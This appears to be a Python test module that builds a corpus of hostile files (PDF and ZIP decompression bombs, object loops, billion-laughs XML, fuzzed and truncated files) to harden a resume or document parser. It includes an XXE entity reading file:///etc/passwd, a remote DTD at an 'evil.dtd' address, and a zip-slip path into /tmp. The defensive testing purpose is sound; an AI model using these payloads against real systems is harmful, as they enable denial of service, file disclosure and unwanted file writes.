"""Makes files that attack a parser: bombs, loops, lies, torn and locked files, all from seeds."""

import io
import random
import zipfile
import zlib
from collections.abc import Iterator
from email.message import EmailMessage
from functools import cache

from PIL import Image

Hostile = tuple[str, bytes]


def pdf(objects: list[bytes], *, trailer: bytes = b"<</Root 1 0 R>>", xref: bool = True) -> bytes:
    """A PDF from the bodies of its objects, numbered from 1."""
    out = b"%PDF-1.7\n"
    places: list[int] = []
    for number, body in enumerate(objects, start=1):
        places.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    start = len(out)
    if xref:
        out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
        out += b"".join(b"%010d 00000 n \n" % place for place in places)
    size = b"/Size %d>>" % (len(objects) + 1)
    return out + b"trailer\n" + trailer[:-2] + size + b"\nstartxref\n%d\n%%%%EOF" % start


def stream(content: bytes, extra: bytes = b"") -> bytes:
    return b"<<%s/Length %d>>stream\n%s\nendstream" % (extra, len(content), content)


def page_with(content: bytes, extra: bytes = b"", box: bytes = b"[0 0 612 792]") -> bytes:
    """A one-page PDF with this content stream."""
    return pdf(
        [
            b"<</Type/Catalog/Pages 2 0 R>>",
            b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
            b"<</Type/Page/Parent 2 0 R/MediaBox%s/Contents 4 0 R/Resources<</Font<</F1 5 0 R>>>>>>"
            % box,
            stream(content, extra),
            b"<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>",
        ]
    )


def packed(parts: dict[str, bytes]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, body in parts.items():
            archive.writestr(name, body)
    return buffer.getvalue()


W = b'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'


def docx(body: bytes, prolog: bytes = b"", more: dict[str, bytes] | None = None) -> bytes:
    xml = b"<?xml version='1.0'?>%s<w:document %s><w:body>%s</w:body></w:document>" % (
        prolog,
        W,
        body,
    )
    return packed({"word/document.xml": xml} | (more or {}))


@cache
def all_hostile() -> tuple[Hostile, ...]:
    """A hundred files and more."""
    return (*_pdfs(), *_fuzzed_pdfs(), *_office(), *_images(), *_texts(), *_mails(), *_torn())


def _pdfs() -> Iterator[Hostile]:
    zeros = zlib.compress(b"0" * 200_000_000, 9)
    yield "flate-bomb.pdf", page_with(zeros, b"/Filter/FlateDecode")
    yield (
        "flate-twice.pdf",
        page_with(zlib.compress(zeros, 9), b"/Filter[/FlateDecode/FlateDecode]"),
    )
    text = zlib.compress(b"BT /F1 9 Tf " + b"(x) Tj " * 20_000_000, 9)
    yield "text-bomb.pdf", page_with(text, b"/Filter/FlateDecode")
    yield "brackets.pdf", page_with(b"BT /F1 9 Tf (" + b"\\(" * 1_000_000 + b") Tj ET")
    yield "arrays.pdf", page_with(b"[" * 500_000)
    yield "dictionaries.pdf", page_with(b"<<" * 500_000)
    yield "saves.pdf", page_with(b"q " * 3_000_000)
    yield "huge-page.pdf", page_with(b"BT /F1 9 Tf (x) Tj ET", box=b"[0 0 1e9 1e9]")
    yield "no-pages.pdf", pdf([b"<</Type/Catalog/Pages 2 0 R>>", b"<</Type/Pages/Kids[]/Count 0>>"])
    kids = b" ".join(b"3 0 R" for _ in range(60_000))
    shared = b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]>>"
    pages = b"<</Type/Pages/Kids[%s]/Count 60000>>" % kids
    yield "sixty-thousand-pages.pdf", pdf([b"<</Type/Catalog/Pages 2 0 R>>", pages, shared])
    yield (
        "lying-count.pdf",
        pdf(
            [
                b"<</Type/Catalog/Pages 2 0 R>>",
                b"<</Type/Pages/Kids[3 0 R]/Count 2000000000>>",
                shared,
            ]
        ),
    )
    yield (
        "page-loop.pdf",
        pdf([b"<</Type/Catalog/Pages 2 0 R>>", b"<</Type/Pages/Kids[2 0 R]/Count 1>>"]),
    )
    yield "self-reference.pdf", pdf([b"1 0 R"])
    yield (
        "form-loop.pdf",
        pdf(
            [
                b"<</Type/Catalog/Pages 2 0 R>>",
                b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
                b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]/Contents 4 0 R"
                b"/Resources<</XObject<</X "
                b"5 0 R>>>>>>",
                stream(b"/X Do"),
                stream(
                    b"/X Do /X Do",
                    b"/Type/XObject/Subtype/Form/BBox[0 0 9 9]/Resources<</XObject<</X 5 0 R>>>>",
                ),
            ]
        ),
    )
    yield "form-tree.pdf", _form_tree(28)
    yield "image-bomb.pdf", _image_bomb(60_000)
    yield (
        "prev-loop.pdf",
        b"%PDF-1.4\nxref\n0 0\ntrailer<</Root 1 0 R/Prev 9>>\nstartxref\n9\n%%EOF",
    )
    yield "encrypted.pdf", _encrypted()
    yield "header-only.pdf", b"%PDF-1.7\n"
    yield (
        "object-stream-loop.pdf",
        pdf(
            [
                b"<</Type/Catalog/Pages 2 0 R>>",
                stream(b"2 0 <<>>", b"/Type/ObjStm/N 1/First 4/Extends 2 0 R"),
            ]
        ),
    )
    yield "negative-length.pdf", page_with(b"x").replace(b"/Length 1", b"/Length -9")
    yield (
        "predictor.pdf",
        page_with(
            zlib.compress(b"\x00" * 50_000_000, 9),
            b"/Filter/FlateDecode/DecodeParms<</Predictor 15/Columns 1000000000>>",
        ),
    )
    yield (
        "lzw.pdf",
        page_with(b"\x80\x0b\x60\x50\x22\x0c\x0c\x85\x01" * 200_000, b"/Filter/LZWDecode"),
    )
    yield "ascii-hex.pdf", page_with(b"41" * 4_000_000 + b">", b"/Filter/ASCIIHexDecode")
    yield "filters.pdf", page_with(b"x", b"/Filter[" + b"/FlateDecode" * 20_000 + b"]")
    yield "many-links.pdf", _many_links(40_000)
    yield from _odd_pictures()
    yield from _odd_fonts()
    kids = b" ".join(b"3 0 R" for _ in range(10_000))
    pages = b"<</Type/Pages/Kids[%s]/Count 10000>>" % kids
    yield "ten-thousand-pages.pdf", pdf([b"<</Type/Catalog/Pages 2 0 R>>", pages, shared])
    box = b"[0 0 14400 14400]"
    yield "poster.pdf", page_with(b"BT /F1 9 Tf (x) Tj ET", b"/Length 2", box=box)


def _odd_pictures() -> Iterator[Hostile]:
    """Pictures in the codecs that have broken most readers, torn and with sizes that lie."""
    chance = random.Random(11)
    for codec, head in (
        ("JBIG2Decode", b"\x00\x00\x00\x00\x30\x00\x01\x00\x00\x00\x13"),
        ("JPXDecode", b"\x00\x00\x00\x0cjP  \r\n\x87\n\xff\x4f\xff\x51\x00\x2f"),
        ("CCITTFaxDecode", b"\x00\x01\x02"),
        ("DCTDecode", b"\xff\xd8\xff\xc0\x00\x11\x08\xff\xff\xff\xff\x03"),
        ("RunLengthDecode", b"\x81x"),
    ):
        body = head + chance.randbytes(6000)
        yield f"odd-{codec}.pdf", _drawn(body, codec.encode(), 30_000)
        yield f"cut-{codec}.pdf", _drawn(head, codec.encode(), 4)


def _drawn(body: bytes, codec: bytes, side: int) -> bytes:
    image = stream(
        body,
        b"/Type/XObject/Subtype/Image/Width %d/Height %d/ColorSpace/DeviceGray"
        b"/BitsPerComponent 1/Filter/%s" % (side, side, codec),
    )
    return pdf(
        [
            b"<</Type/Catalog/Pages 2 0 R>>",
            b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
            b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 612 792]/Contents 4 0 R"
            b"/Resources<</XObject<</X 5 0 R>>/Font<</F1 6 0 R>>>>>>",
            stream(b"BT /F1 9 Tf 50 700 Td (Jane Roe) Tj ET q 300 0 0 300 50 50 cm /X Do Q"),
            image,
            b"<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>",
        ]
    )


def _odd_fonts() -> Iterator[Hostile]:
    """Fonts whose letters draw themselves, and one whose program is noise."""
    own = b"<</Type/Font/Subtype/Type3/FontBBox[0 0 9 9]/FontMatrix[1 0 0 1 0 0]/FirstChar 120"
    own += b"/LastChar 120/Widths[9]/Encoding<</Differences[120/x]>>/CharProcs<</x 6 0 R>>"
    own += b"/Resources<</Font<</F1 5 0 R>>>>>>"
    head = [
        b"<</Type/Catalog/Pages 2 0 R>>",
        b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
        b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 612 792]/Contents 4 0 R"
        b"/Resources<</Font<</F1 5 0 R>>>>>>",
        stream(b"BT /F1 9 Tf (" + b"x" * 2000 + b") Tj ET"),
    ]
    yield "font-draws-itself.pdf", pdf([*head, own, stream(b"BT /F1 1 Tf (xxxx) Tj ET")])
    noise = random.Random(12).randbytes(200_000)
    described = b"<</Type/Font/Subtype/TrueType/BaseFont/Noise/FontDescriptor 6 0 R>>"
    descriptor = b"<</Type/FontDescriptor/FontName/Noise/Flags 4/FontFile2 7 0 R>>"
    yield "font-of-noise.pdf", pdf([*head, described, descriptor, stream(noise)])


def _form_tree(depth: int) -> bytes:
    """Each form draws the next twice: two to the power of `depth` draws in a few kilobytes."""
    objects = [
        b"<</Type/Catalog/Pages 2 0 R>>",
        b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
        b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]/Contents 4 0 R"
        b"/Resources<</XObject<</X "
        b"5 0 R>>>>>>",
        stream(b"/X Do"),
    ]
    for number in range(5, 5 + depth):
        extra = b"/Type/XObject/Subtype/Form/BBox[0 0 9 9]/Resources<</XObject<</X %d 0 R>>>>" % (
            number + 1
        )
        objects.append(stream(b"/X Do /X Do", extra))
    objects.append(stream(b"BT ET", b"/Type/XObject/Subtype/Form/BBox[0 0 9 9]"))
    return pdf(objects)


def _image_bomb(side: int) -> bytes:
    extra = (
        b"/Type/XObject/Subtype/Image/Width %d/Height "
        b"%d/ColorSpace/DeviceRGB/BitsPerComponent 8/Filter/FlateDecode" % (side, side)
    )
    return pdf(
        [
            b"<</Type/Catalog/Pages 2 0 R>>",
            b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
            b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 612 792]/Contents 4 0 "
            b"R/Resources<</XObject<</I 5 0 R>>>>>>",
            stream(b"612 0 0 792 0 0 cm /I Do"),
            stream(zlib.compress(b"\x00" * 40_000_000, 9), extra),
        ]
    )


def _many_links(count: int) -> bytes:
    link = b"<</Type/Annot/Subtype/Link/Rect[0 0 9 9]/A<</S/URI/URI(http://a.example/)>>>>"
    return pdf(
        [
            b"<</Type/Catalog/Pages 2 0 R>>",
            b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
            b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]/Annots[%s]>>" % (link * count),
        ]
    )


def _encrypted() -> bytes:
    locked = b"<</Filter/Standard/V 1/R 2/O<%s>/U<%s>/P -4>>" % (b"41" * 32, b"42" * 32)
    return pdf(
        [b"<</Type/Catalog/Pages 2 0 R>>", b"<</Type/Pages/Kids[]/Count 0>>", locked],
        trailer=b"<</Root 1 0 R/Encrypt 3 0 R/ID[<41><41>]>>",
    )


def _fuzzed_pdfs() -> Iterator[Hostile]:
    """A sound file with bytes turned, in its cross-reference table above all."""
    sound = page_with(b"BT /F1 12 Tf 72 700 Td (Jane Doe) Tj 0 -20 Td (Experience) Tj ET")
    table = sound.index(b"xref")
    for seed in range(30):
        chance = random.Random(seed)
        damaged = bytearray(sound)
        low, high = (table, len(sound)) if seed % 2 else (9, len(sound))
        for _ in range(chance.randint(1, 24)):
            damaged[chance.randrange(low, high)] = chance.randrange(256)
        yield f"fuzzed-{seed}.pdf", bytes(damaged)


def _office() -> Iterator[Hostile]:
    bomb = b"<w:p><w:r><w:t>" + b"a" * 90_000_000 + b"</w:t></w:r></w:p>"
    yield "zip-bomb.docx", docx(bomb)
    del bomb
    entities = b"".join(
        b'<!ENTITY l%d "%s">' % (n, b"&l%d;" % (n - 1) * 10 if n else b"lol") for n in range(12)
    )
    yield (
        "billion-laughs.docx",
        docx(b"<w:p><w:r><w:t>&l11;</w:t></w:r></w:p>", b"<!DOCTYPE d [%s]>" % entities),
    )
    outside = b'<!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
    yield "xxe.docx", docx(b"<w:p><w:r><w:t>&x;</w:t></w:r></w:p>", outside)
    remote = b'<!DOCTYPE d SYSTEM "http://203.0.113.9/evil.dtd">'
    yield "remote-dtd.docx", docx(b"<w:p><w:r><w:t>x</w:t></w:r></w:p>", remote)
    yield "deep.docx", docx(b"<w:sdt><w:sdtContent>" * 30_000)
    yield "nested-tables.docx", docx(b"<w:tbl><w:tr><w:tc>" * 5_000)
    yield (
        "slip.docx",
        docx(b"<w:p><w:r><w:t>x</w:t></w:r></w:p>", more={"../../../../tmp/slip": b"x"}),
    )
    yield (
        "many-files.docx",
        packed({"word/document.xml": b"<a/>"} | {f"word/{n}": b"" for n in range(20_000)}),
    )
    yield from _pasted()
    yield "no-text-part.docx", packed({"word/other.xml": b"<a/>"})
    yield "not-xml.docx", packed({"word/document.xml": b"\x00\x01\x02" * 1000})
    yield "many-paragraphs.docx", docx(b"<w:p><w:r><w:t>word </w:t></w:r></w:p>" * 600_000)
    yield (
        "wide-table.docx",
        docx(b"<w:tbl><w:tr>" + b"<w:tc><w:p/></w:tc>" * 300_000 + b"</w:tr></w:tbl>"),
    )
    yield (
        "locked.docx",
        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
        + b"\x00" * 600
        + "EncryptedPackage".encode("utf-16-le"),
    )
    yield "old.doc", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 4000
    text = b'xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0"'
    office = b'xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0"'
    odt = b"<office:d %s %s><office:text>%s</office:text></office:d>"
    yield (
        "deep.odt",
        packed({"content.xml": odt % (office, text, b"<text:list><text:list-item>" * 20_000)}),
    )
    yield (
        "spaces.odt",
        packed(
            {"content.xml": odt % (office, text, b'<text:p><text:s text:c="2000000000"/></text:p>')}
        ),
    )
    yield (
        "locked.odt",
        packed({"content.xml": b"x", "META-INF/manifest.xml": b"<m><encryption-data/></m>"}),
    )
    yield "directory-lies.docx", docx(b"<w:p/>").replace(b"PK\x01\x02", b"PK\x01\x09")


def _pasted() -> Iterator[Hostile]:
    """Pictures in Word files: too large, too many, and each shown a thousand times."""
    space = b"http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    shown = b'<w:p><w:r><w:drawing><a:blip xmlns:a="a" xmlns:r="%s" r:embed="i%d"/>'
    shown += b"</w:drawing></w:r></w:p>"
    relation = b'<Relationship Id="i%d" Type="%s/image" Target="media/%d.png"/>'
    relations = b'<Relationships xmlns="'
    relations += b'http://schemas.openxmlformats.org/package/2006/relationships">'
    page = _picture(3000, 3000)
    for name, count, picture, times in (
        ("gigapixel-picture.docx", 1, _png_header(40_000, 40_000), 1),
        ("many-pictures.docx", 400, page, 1),
        ("one-picture-often.docx", 1, page, 1000),
    ):
        yield (
            name,
            docx(
                b"".join(shown % (space, n) for n in range(count)) * times,
                more={f"word/media/{n}.png": picture for n in range(count)}
                | {
                    "word/_rels/document.xml.rels": relations
                    + b"".join(relation % (n, space, n) for n in range(count))
                    + b"</Relationships>"
                },
            ),
        )


def _images() -> Iterator[Hostile]:
    yield "gigapixels.png", _png_header(40_000, 40_000)
    yield "dots.png", _picture(3, 3)
    yield "blank.png", _picture(900, 1200)
    yield "torn.png", _picture(900, 1200)[:200]
    yield "torn.jpg", b"\xff\xd8\xff\xe0" + b"\x00" * 5000
    yield (
        "endless.gif",
        b"GIF89a\xff\xff\xff\xff\x00\x00\x00,"
        + b"\x00\x00\x00\x00\xff\xff\xff\xff\x00\x08"
        + b"\xff" * 50_000,
    )
    yield "loop.tiff", b"II*\x00\x08\x00\x00\x00\x00\x00\x08\x00\x00\x00"


def _png_header(width: int, height: int) -> bytes:
    body = width.to_bytes(4, "big") + height.to_bytes(4, "big") + b"\x08\x02\x00\x00\x00"
    chunk = b"IHDR" + body
    header = len(body).to_bytes(4, "big") + chunk + zlib.crc32(chunk).to_bytes(4, "big")
    return b"\x89PNG\r\n\x1a\n" + header + b"\x00\x00\x00\x00IEND\xaeB`\x82"


def _picture(width: int, height: int) -> bytes:
    buffer = io.BytesIO()
    Image.new("L", (width, height), 255).save(buffer, "PNG")
    return buffer.getvalue()


def _texts() -> Iterator[Hostile]:
    yield "empty.txt", b""
    yield "blank.txt", b" \n\t\r\n" * 1000
    yield "zeros.bin", b"\x00" * 100_000
    yield "noise.bin", random.Random(1).randbytes(200_000)
    yield "brackets.txt", b"(" * 1_000_000
    yield "at-signs.txt", b"a@" * 200_000
    yield "dots.txt", b"a." * 200_000 + b"@"
    yield "digits.txt", b"1 " * 300_000
    yield "dashes.txt", b"2019 - " * 60_000
    yield "one-line.txt", b"Experience manager " * 20_000
    yield "many-lines.txt", b"Jan 2019 - Feb 2020\n" * 20_000
    yield "headings.txt", b"EXPERIENCE\n" * 30_000
    yield "commas.txt", b"Skills\n" + b"a, " * 120_000
    yield "quotes.txt", b"Skills:\n" + b"((((a, " * 50_000
    yield "control.txt", b"\x1b[2J" * 1000
    yield "deep.html", b"<div>" * 200_000 + b"x"
    yield "tables.html", b"<table><tr><td>" * 3_000 + b"x"
    yield "attributes.html", b"<html><p " + b"a=1 " * 300_000 + b">x"
    yield "script.html", b"<html><script>" + b"x" * 3_000_000
    yield "deep.rtf", b"{\\rtf1 " + b"{" * 300_000
    yield "torn.rtf", b"{\\rtf1 \\ansi Jane"
    yield "binary.rtf", b"{\\rtf1 \\bin2000000000 x}"
    yield "words.rtf", b"{\\rtf1 " + b"\\b\\i " * 400_000 + b"}"
    yield "combining.txt", ("a" + "\u0301" * 100_000).encode()
    yield "emoji.txt", "👩‍💻".encode() * 30_000
    yield "surrogates.txt", b"\xed\xa0\x80" * 50_000
    yield "program.exe", b"MZ" + b"\x00\x90" * 5000


def _mails() -> Iterator[Hostile]:
    nested = EmailMessage()
    nested["Subject"] = "in"
    nested["From"] = "a@example.com"
    nested.set_content("x")
    for _ in range(40):
        outer = EmailMessage()
        outer["Subject"] = "fwd"
        outer["From"] = "a@example.com"
        outer.set_content("see below")
        outer.add_attachment(nested)
        nested = outer
    yield "nested.eml", nested.as_bytes()
    boundary = b"Subject: a\nFrom: b\nContent-Type: multipart/mixed; boundary=b\n\n"
    yield "parts.eml", boundary + b"--b\nContent-Type: text/plain\n\nx\n" * 30_000
    yield "headers.eml", b"Subject: a\nFrom: b\n" + b"X-A: b\n" * 200_000 + b"\nx"
    yield (
        "no-resume.eml",
        b"Subject: lunch\nFrom: a@example.com\nTo: b@example.com\n\nSee you at noon.\n",
    )
    yield "encoded-word.eml", b"Subject: " + b"=?utf-8?q?a?= " * 20_000 + b"\nFrom: a\n\nx"


def _torn() -> Iterator[Hostile]:
    """Sound files cut off at a tenth, half and nine tenths."""
    sound = {
        "pdf": page_with(b"BT /F1 12 Tf 72 700 Td (Jane Doe) Tj ET"),
        "docx": docx(b"<w:p><w:r><w:t>Jane Doe</w:t></w:r></w:p>" * 50),
    }
    for kind, data in sound.items():
        for share in (10, 50, 90):
            yield f"cut-at-{share}.{kind}", data[: len(data) * share // 100]
